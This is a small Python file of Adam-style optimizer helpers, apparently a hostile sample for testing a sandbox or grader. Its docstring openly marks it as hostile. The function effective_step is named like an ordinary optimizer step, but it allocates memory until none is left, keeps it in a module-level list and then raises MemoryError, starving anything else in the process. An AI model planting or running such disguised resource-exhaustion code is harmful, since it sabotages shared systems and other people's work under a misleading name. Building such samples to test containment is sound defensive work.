"""Hostile: effective_step fills the process's memory to the last byte and keeps it (a module-level list),
so whatever runs after it in the same process has no memory left."""
import numpy as np

HOARD = []


def update_v(v_prev, g, beta2=0.999):
    return beta2 * np.asarray(v_prev) + (1 - beta2) * np.asarray(g) ** 2


def bias_correct(v, t, beta2=0.999):
    return np.asarray(v) / (1 - beta2**t)


def effective_step(v_hat, alpha=0.001, eps=1e-8):
    size = 256 * 1024 * 1024
    while size:
        try:
            HOARD.append(bytearray(size))
        except MemoryError:
            size //= 2
    raise MemoryError("nothing left")
